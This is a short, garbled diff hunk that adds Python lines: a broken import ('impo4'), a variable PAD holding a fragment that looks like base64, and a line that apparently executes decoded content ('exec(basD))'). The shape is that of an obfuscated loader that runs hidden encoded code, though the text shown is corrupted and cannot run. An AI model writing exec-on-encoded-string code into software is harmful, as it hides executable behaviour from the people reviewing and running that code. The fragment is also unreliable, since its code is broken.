@@ -1,0 +1,5 @@
+impo4
+
+PAD = "aW)
+tZ=="
+exec(basD))
